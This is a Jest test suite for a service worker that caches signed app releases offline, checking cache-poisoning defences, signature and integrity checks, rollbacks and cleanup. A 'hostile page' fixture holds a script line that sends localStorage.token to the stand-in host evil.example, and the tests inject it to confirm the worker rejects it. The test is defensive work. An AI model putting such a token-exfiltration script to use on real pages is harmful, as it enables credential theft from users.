import { beforeEach, describe, expect, jest, test } from '@jest/globals';
import { signingKey } from '@viewmax/testing/signing-key';
import { provideCaches } from '../testing/caches.ts';
import { integrityOf } from '../testing/integrity-of.ts';
import { startWorker } from '../testing/start-worker.ts';
import { openTestEdge, POLICY } from '../testing/test-edge.ts';
import type { Wanted } from './stored-files.ts';

const DAY_MS = 86_400_000;

interface Signed {
  text: string;
  signature: string;
}

let stores: ReturnType<typeof provideCaches>;
let edge: Awaited<ReturnType<typeof openTestEdge>>;

const shellOf = (version: string, code = 'shell') =>
  edge.release('shell', version, { 'shell.js': code, 'late.js': 'late', 'frame.css': 'frame' });
const remoteOf = (name: string, version: string, code = `${name} ${version}`) =>
  edge.release(name, version, { 'entry.js': code, 'one.js': `one of ${name}` });

const worker = () => startWorker(async () => new Response('from the network'));
const storeSet = async (setId?: string, wanted?: Wanted) =>
  (await worker()).storeSet(setId ? { setId } : undefined, wanted);
const pageNow = async () => (await (await worker()).madePage('/'))?.text();
const setNow = async () => /"setId":"(\w+)"/.exec((await pageNow()) ?? '')?.[1];
const loads = async (path: string) => (await worker()).loads(path);

const filesAsked = () => edge.asked.filter((path) => path.startsWith('/r/'));
const filesStored = () => [...(stores.get('files')?.keys() ?? [])].map((url) => url.replace(location.origin, ''));
const poison = (cache: string, path: string, text: string) =>
  (stores.get(cache) ?? stores.set(cache, new Map()).get(cache))?.set(
    new URL(path, location.href).href,
    new Response(text, { headers: { 'content-type': 'text/html' } }),
  );

beforeEach(async () => {
  stores = provideCaches();
  edge = await openTestEdge();
  await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), remoteOf('wallet', '1.0.0')]);
});

describe('a hostile page that writes into the caches', () => {
  const HOSTILE = '<html><script>fetch("https://evil.example/"+localStorage.token)</script>';

  test('gets none of its pages shown', async () => {
    await storeSet('a');
    for (const [name, store] of stores) for (const url of store.keys()) poison(name, url, HOSTILE);
    for (const name of ['set-a', 'notes', 'sets', 'files']) poison(name, '/', HOSTILE);
    poison('notes', '/present-set', 'set-a');
    expect(await pageNow()).toBeUndefined();
  });

  test('gets no entry kept beside the sets', async () => {
    await storeSet('a');
    for (const path of ['/', '/img/hostile', '/stored-sets?hostile']) poison('sets', path, HOSTILE);
    await storeSet('a');
    expect([...(stores.get('sets')?.keys() ?? [])]).toEqual([new URL('/stored-sets', location.href).href]);
    expect(await setNow()).toBe('a');
  });

  test('gets no file used, and the next store of the set mends them', async () => {
    await storeSet('a');
    poison('files', '/r/catalog/1.0.0/entry.js', HOSTILE);
    poison('files', '/r/catalog/1.0.0/one.js', HOSTILE);
    poison('files', '/r/catalog/1.0.0/own.js', HOSTILE);
    for (const file of ['entry.js', 'one.js', 'own.js']) {
      expect(await loads(`/r/catalog/1.0.0/${file}`)).toBe('from the network');
    }
    await storeSet();
    expect(await loads('/r/catalog/1.0.0/entry.js')).toBe('catalog 1.0.0');
    expect(await loads('/r/catalog/1.0.0/one.js')).toBe('one of catalog');
    expect(filesStored()).not.toContain('/r/catalog/1.0.0/own.js');
  });

  test.each([
    ['a changed letter', async ({ text, signature }: Signed) => ({ text: text.replace('1.0.0', '6.6.6'), signature })],
    ['a key of its own', async ({ text }: Signed) => ({ text, signature: await (await signingKey('k1')).sign(text) })],
    ['no text at all', async () => ({})],
  ])('gets no document used with %s', async (_, change) => {
    await storeSet('a');
    poison('sets', '/stored-sets', JSON.stringify([{ ...(await change(edge.live)), at: Date.now() }]));
    expect(await pageNow()).toBeUndefined();
  });

  test('gets no preview stored, neither by the worker nor in the store itself', async () => {
    await storeSet('a');
    const preview = await edge.goesLive('p', [shellOf('1.0.0'), remoteOf('catalog', '6.6.6')], { preview: true });
    await expect(storeSet('p')).rejects.toThrow('The set is not signed for this device');
    const [stored] = JSON.parse(
      (await stores.get('sets')?.get(`${location.origin}/stored-sets`)?.clone().text()) ?? '',
    );
    poison('sets', '/stored-sets', JSON.stringify([{ ...preview, at: Date.now() }, stored]));
    expect(await setNow()).toBe('a');
  });

  test('cannot put an older set before the present one', async () => {
    const older = { ...edge.live, at: Date.now() };
    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
    await storeSet('b');
    poison('sets', '/stored-sets', JSON.stringify([older, { ...edge.live, at: 0 }]));
    expect(await setNow()).toBe('b');
  });
});

describe('a stored set', () => {
  test('starts the app with the policy and the mark of a stored page', async () => {
    await storeSet('a');
    edge.isOffline = true;
    const page = await (await worker()).madePage('/nowhere');
    expect(page?.headers.get('content-security-policy')).toBe(POLICY);
    const made = new DOMParser().parseFromString((await page?.text()) ?? '', 'text/html');
    expect(made.documentElement.hasAttribute('data-kept')).toBe(true);
    expect(made.getElementById('discovery')?.textContent).toBe(edge.live.text);
    expect(JSON.parse(made.getElementById('config')?.textContent ?? '')).toMatchObject({ keys: edge.key.ring });
    const script = made.querySelector('script[src]');
    expect([script?.getAttribute('src'), script?.getAttribute('integrity')]).toEqual([
      '/r/shell/1.0.0/shell.js',
      integrityOf('shell'),
    ]);
  });

  test('is stored whole or not at all', async () => {
    edge.published.delete('/r/wallet/1.0.0/one.js');
    await expect(storeSet('a')).rejects.toThrow('404');
    expect([await setNow(), filesStored()]).toEqual([undefined, []]);
    edge.published.set('/r/wallet/1.0.0/one.js', 'other bytes');
    await expect(storeSet('a')).rejects.toThrow('one.js is not the file that was published');
    expect([await setNow(), filesStored()]).toEqual([undefined, []]);
  });

  test('stays when a file of the next set is lost', async () => {
    await storeSet('a');
    const before = filesStored();
    await edge.goesLive('b', [shellOf('2.0.0', 'new'), remoteOf('catalog', '2.0.0')]);
    edge.published.delete('/r/catalog/2.0.0/entry.js');
    await expect(storeSet('b')).rejects.toThrow('404');
    expect([await setNow(), filesStored()]).toEqual(['a', before]);
  });

  test('is fetched once for parallel requests, and again after a failure', async () => {
    edge.isOffline = true;
    const { storeSet } = await worker();
    const page = { setId: 'a' };
    await expect(storeSet(page)).rejects.toThrow('Failed to fetch');
    edge.isOffline = false;
    edge.asked = [];
    await Promise.all([storeSet(page), storeSet(page)]);
    expect(edge.asked).toHaveLength(8);
    await storeSet(page);
    expect(edge.asked).toHaveLength(8);
  });

  test('asks for its document again after a day by the phone’s clock, and loads no file', async () => {
    jest.useFakeTimers({ now: Date.now() + 400 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
    await storeSet('a');
    edge.asked = [];
    await storeSet('a');
    expect(edge.asked).toEqual([]);
    jest.setSystemTime(Date.now() + 2 * DAY_MS);
    await storeSet('a');
    expect(edge.asked).toEqual(['/discovery.json']);
  });

  test('contains only the used remotes on a costly network, and grows with further use', async () => {
    await storeSet('a', { only: ['catalog'] });
    expect(filesAsked().some((path) => path.includes('/wallet/'))).toBe(false);
    edge.asked = [];
    await storeSet('a', { only: ['catalog', 'wallet'] });
    expect(filesAsked()).toEqual(['/r/wallet/1.0.0/entry.js', '/r/wallet/1.0.0/one.js']);
  });

  test('contains the screens of attendants on the phone of an attendant only', async () => {
    const routes = [{ path: '/door', title: 'Door', tab: 'home', guard: 'attendant', screen: 'one' } as const];
    const open = { path: '/mytickets', title: 'My Tickets', tab: 'profile' } as const;
    const booking = { ...remoteOf('booking', '1.0.0'), routes: [...routes, open] };
    await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), booking]);
    await storeSet('a');
    expect(filesStored()).toContain('/r/booking/1.0.0/entry.js');
    expect(filesStored()).not.toContain('/r/booking/1.0.0/one.js');
    await storeSet('a', { isForAttendant: true });
    expect(filesStored()).toContain('/r/booking/1.0.0/one.js');
    await storeSet('a');
    expect(await loads('/r/booking/1.0.0/one.js')).toBe('one of booking');
  });

  test('contains no file of a remote for attendants alone on the phone of others', async () => {
    const routes = [{ path: '/door', title: 'Door', tab: 'home', guard: 'attendant', screen: 'one' } as const];
    const door = { ...remoteOf('wallet', '1.0.0'), routes };
    await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), door]);
    await storeSet('a');
    expect(filesAsked().filter((path) => path.startsWith('/r/wallet/'))).toEqual([]);
    await storeSet('a', { isForAttendant: true });
    expect(filesStored()).toEqual(expect.arrayContaining(['/r/wallet/1.0.0/entry.js', '/r/wallet/1.0.0/one.js']));
  });

  test('contains no screen of the shell, which are for laptops, developers and the wrapper', async () => {
    const welcome = [{ file: 'welcome.js', integrity: integrityOf('welcome') }];
    edge.published.set('/r/shell/1.0.0/welcome.js', 'welcome');
    await edge.goesLive('a', [{ ...shellOf('1.0.0'), screens: { welcome } }, remoteOf('catalog', '1.0.0')]);
    await storeSet('a');
    expect(filesStored()).toContain('/r/shell/1.0.0/late.js');
    expect(filesAsked()).not.toContain('/r/shell/1.0.0/welcome.js');
    expect(await loads('/r/shell/1.0.0/welcome.js')).toBe('from the network');
  });

  test('contains no file of a switched-off remote', async () => {
    const wallet = { ...remoteOf('wallet', '1.0.0'), off: { message: 'Closed' } };
    await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), wallet]);
    await storeSet('a');
    expect(filesAsked().some((path) => path.includes('/wallet/'))).toBe(false);
  });

  test('ignores an older answer, until the newer document has expired', async () => {
    const older = edge.live;
    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
    await storeSet('b');
    edge.live = older;
    await storeSet('a');
    expect(await setNow()).toBe('b');
    jest.useFakeTimers({ now: Date.now() + 2 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
    await storeSet('a');
    expect(await setNow()).toBe('a');
  });
});

describe('the next set', () => {
  test('loads only the bytes that are not stored, under their new addresses', async () => {
    await storeSet('a');
    edge.asked = [];
    await edge.goesLive('b', [
      shellOf('1.0.1', 'new shell'),
      remoteOf('catalog', '1.0.0'),
      remoteOf('wallet', '1.0.0'),
    ]);
    await storeSet('b');
    expect(filesAsked()).toEqual(['/r/shell/1.0.1/shell.js']);
    edge.isOffline = true;
    expect(await loads('/r/shell/1.0.1/late.js')).toBe('late');
    const copy = stores.get('files')?.get(`${location.origin}/r/shell/1.0.1/frame.css`);
    expect([copy?.url, copy?.headers.get('content-type')]).toEqual(['', 'text/x']);
  });

  test('gets its stored bytes before it is stored, by the hashes of its page', async () => {
    await storeSet('a');
    const { text } = await edge.goesLive('b', [shellOf('1.0.1', 'new shell'), remoteOf('catalog', '1.0.0')]);
    const started = await worker();
    const load = started.loads;
    expect(await load('/r/shell/1.0.1/late.js')).toBe('from the network');
    const html = `<script type="application/json" id="discovery">${text}</script>`;
    const page = new Response(html, { headers: { 'x-viewmax-page-set': 'b' } });
    started.noteShown(page);
    expect(await load('/r/shell/1.0.1/late.js')).toBe('late');
    expect(await load('/r/shell/1.0.1/shell.js')).toBe('from the network');
    expect(await page.text()).toBe(html);
  });

  test('is read only from a page whose set is not stored', async () => {
    await storeSet('a');
    const page = new Response('', { headers: { 'x-viewmax-page-set': 'a' } });
    const clone = jest.spyOn(page, 'clone');
    (await worker()).noteShown(page);
    expect(clone).not.toHaveBeenCalled();
  });

  test('costs no file after a rollback', async () => {
    const before = [shellOf('1.0.0'), remoteOf('catalog', '1.0.0')];
    await storeSet('a');
    await edge.goesLive('b', [shellOf('2.0.0', 'new'), remoteOf('catalog', '2.0.0')]);
    await storeSet('b');
    edge.asked = [];
    await edge.goesLive('a', before);
    await storeSet('a');
    expect([filesAsked(), await setNow()]).toEqual([[], 'a']);
  });

  test('leaves the set before for seven days', async () => {
    jest.useFakeTimers({ now: Date.now() + 30 * DAY_MS, doNotFake: ['setTimeout', 'setImmediate', 'nextTick'] });
    const OLD = '/r/catalog/1.0.0/entry.js';
    await storeSet('a');
    jest.setSystemTime(Date.now() + 30 * DAY_MS);
    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
    await storeSet('b');
    jest.setSystemTime(Date.now() + 6 * DAY_MS);
    await storeSet('b');
    expect(filesStored()).toContain(OLD);
    jest.setSystemTime(Date.now() + 2 * DAY_MS);
    await storeSet('b');
    expect(filesStored()).not.toContain(OLD);
    expect(filesStored()).toContain('/r/catalog/2.0.0/entry.js');
  });

  test('leaves three sets before it', async () => {
    for (const [index, id] of ['b', 'c', 'd', 'e'].entries()) {
      await storeSet();
      await edge.goesLive(id, [shellOf('1.0.0'), remoteOf('catalog', `2.${index}.0`)]);
    }
    await storeSet('e');
    const versions = filesStored().flatMap((path) => /catalog\/(\S+)\/entry/.exec(path)?.[1] ?? []);
    expect(versions).toEqual(['2.0.0', '2.1.0', '2.2.0', '2.3.0']);
  });
});
